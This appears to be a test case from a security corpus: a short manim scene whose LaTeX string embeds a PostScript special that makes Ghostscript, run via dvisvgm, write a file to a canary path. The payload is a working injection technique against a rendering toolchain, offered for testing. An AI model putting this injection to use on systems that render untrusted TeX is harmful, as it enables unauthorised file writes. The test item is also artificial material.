# ATTACK: file-write
# SUCCESS: PostScript in a special is run by Ghostscript inside dvisvgm
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        Tex(r"a\special{ps: (@CANARY@/pwned) (w) file dup (x) writestring closefile}")
        self.add(Dot()); self.wait(0.1)
